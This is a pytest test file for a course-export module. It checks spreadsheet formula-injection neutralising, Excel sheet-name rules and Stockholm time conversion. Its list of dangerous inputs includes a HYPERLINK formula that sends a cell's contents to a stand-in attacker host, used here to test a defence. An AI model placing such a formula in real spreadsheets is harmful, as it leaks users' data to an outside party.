"""The rules both export formats share: formula neutralising and Excel's sheet names."""

from __future__ import annotations

from datetime import datetime
from zoneinfo import ZoneInfo

import pytest

from courses.export import ExportError, excel_sheet_title, neutralise
from courses.export._cells import local_wall_time

STOCKHOLM = ZoneInfo("Europe/Stockholm")

# OWASP's prefixes (= + - @ TAB CR), ASVS's NUL, and each of them behind leading whitespace.
DANGEROUS = [
    '=HYPERLINK("https://evil.example/?"&A1;"Klicka")',
    "+46 70 123 45 67",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    " =1+1",
    "  @SUM(A1)",
    "\n=1+1",
    "\u00a0+1",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_text_that_could_start_a_formula_gets_a_leading_apostrophe(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    ["Anna Öberg", "anna.oberg@vaxjo.se", "070-123 45 67", "Ann-Marie", "", " ", "O'Brien"],
)
def test_a_harmless_text_is_unchanged(text: str) -> None:
    assert neutralise(text) == text


def test_neutralising_twice_changes_nothing_more() -> None:
    once = neutralise("=1+1")
    assert neutralise(once) == once


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("ASI grundutbildning", "ASI grundutbildning"),
        ("Kurs: ASI [2022] a/b\\c*d?e", "Kurs ASI 2022 a b c d e"),
        ("Återfallsprevention – grundkurs för personal", "Återfallsprevention – grundkurs"),
        ("'Citerad'", "Citerad"),
        ("", "Blad1"),
        ("[]:*?/\\", "Blad1"),
        ("History", "History 1"),
        ("Rad\nett\ttvå", "Rad ett två"),
    ],
)
def test_a_sheet_title_is_fitted_to_excels_rules(title: str, expected: str) -> None:
    assert excel_sheet_title(title) == expected


def test_a_sheet_title_counts_characters_as_excel_does() -> None:
    # An emoji is two UTF-16 units; Excel's limit of 31 counts those.
    title = excel_sheet_title("📋" * 20)
    assert len(title.encode("utf-16-le")) // 2 <= 31
    assert title == "📋" * 15


def test_a_datetime_is_written_as_stockholm_wall_time_across_daylight_saving() -> None:
    utc = ZoneInfo("UTC")
    summer = local_wall_time(datetime(2022, 9, 14, 6, 5, tzinfo=utc), STOCKHOLM)
    winter = local_wall_time(datetime(2022, 12, 1, 7, 0, tzinfo=utc), STOCKHOLM)
    assert (summer, winter) == (datetime(2022, 9, 14, 8, 5), datetime(2022, 12, 1, 8, 0))


def test_a_naive_datetime_is_refused() -> None:
    with pytest.raises(ExportError, match="timezone-aware"):
        local_wall_time(datetime(2022, 9, 14, 8, 5), STOCKHOLM)


def test_an_export_error_is_no_value_error() -> None:
    # Litestar ends a synchronous stream quietly on a ValueError from next(): a refused row
    # must surface as an error, not as a truncated file.
    assert not issubclass(ExportError, ValueError)
